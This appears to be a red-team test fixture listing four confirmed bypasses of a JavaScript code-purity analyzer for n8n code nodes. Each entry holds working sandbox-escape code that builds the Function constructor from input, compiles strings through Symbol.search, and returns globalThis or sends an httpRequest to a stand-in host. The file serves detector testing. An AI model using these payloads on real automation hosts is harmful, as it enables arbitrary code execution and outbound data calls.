// Round 8 of the code-purity red team: confirmed with ./n8n-sandbox.ts (default runner flags and hardened host,
// Node 24.21.0 as n8n 2.41.1 runs it) while analyzeJavaScript() reports nothing.
import type { RedTeamBypass, RedTeamFalsePositive } from './bypasses.js';

export const ROUND8: RedTeamBypass[] = [
  {
    "id": "builder-alias/const-fromEntries-search-then",
    "cls": "builder-not-on-Object-member",
    "code": "const F = (() => 0)[items[0].json.key];\nconst fromEntries = Object.fromEntries;\nconst pair = [];\npair.push(Symbol.search, F);\nconst G = 'arguments[0](globalThis)'.search(fromEntries([pair]));\nconst pair2 = ['then'];\npair2.push(G);\nreturn [{ json: { g: await fromEntries([pair2]) } }];",
    "why": "The builder rule only fires on a call whose callee is the MemberExpression Object.<fromEntries|assign|create|defineProperty|defineProperties>. Bound first (const fromEntries = Object.fromEntries) it is a plain built-in call: its argument [pair] is clean (pair filled by push only taints the heap), so it builds { [Symbol.search]: F } unreported; String.prototype.search calls F(body) (search is NON_INVOKING); the compiled function is installed under then the same way and awaited, returning globalThis."
  },
  {
    "id": "builder-alias/comma-callee-object-create",
    "cls": "builder-not-on-Object-member",
    "code": "const F = (() => 0)[items[0].json.key];\nconst d = {};\nd.value = F;\nconst G = 'arguments[0](globalThis)'.search((0, Object.create)(null, { [Symbol.search]: d }));\nconst d2 = {};\nd2.value = G;\nreturn [{ json: { g: await (0, Object.create)(null, { then: d2 }) } }];",
    "why": "Same rule miss with (0, Object.create)(null, descriptors): the callee is a SequenceExpression, not a MemberExpression on Object, so the builder rule never looks at it; descriptors { [Symbol.search]: d } with d.value = F (d a clean fresh literal) define F under Symbol.search, search compiles, and a then-descriptor launders the compiled function through await."
  },
  {
    "id": "builder-alias/fromEntries-dot-call",
    "cls": "builder-not-on-Object-member",
    "code": "const F = (() => 0)[items[0].json.key];\nconst pair = [];\npair.push(Symbol.search, F);\nconst G = 'arguments[0](globalThis)'.search(Object.fromEntries.call(null, [pair]));\nconst pair2 = ['then'];\npair2.push(G);\nreturn [{ json: { g: await Object.fromEntries.call(null, [pair2]) } }];",
    "why": "Object.fromEntries.call(null, [pair]): the callee is .call on the built-in Object.fromEntries (receiver via 'Object.fromEntries', not 'Object'), so the builder rule skips it, and the call/apply check only asks whether the applied method invokes its arguments, which are clean."
  },
  {
    "id": "builder-alias/const-fromEntries-search-twice-helpers",
    "cls": "builder-not-on-Object-member",
    "code": "const F = (() => 0)[items[0].json.key];\nconst build = Object.fromEntries;\nconst pair = [];\npair.push(Symbol.search, F);\nconst G = 'return helpers.httpRequest({ url: \"https://collector.invalid/\" })'.search(build([pair]));\nconst pair2 = [];\npair2.push(Symbol.search, G);\n'go'.search(build([pair2]));\nreturn [{ json: { ok: 1 } }];",
    "why": "Payload form: const build = Object.fromEntries; build([pair]) puts F under Symbol.search, search compiles `return helpers.httpRequest(...)`, and a second pushed pair puts the compiled function under Symbol.search of another built object, so 'go'.search(...) runs it: helpers.httpRequest is called (no direct call of the compiled value, which would be unknown once the heap is tainted)."
  }
];

export const ROUND8_FALSE_POSITIVES: RedTeamFalsePositive[] = [];
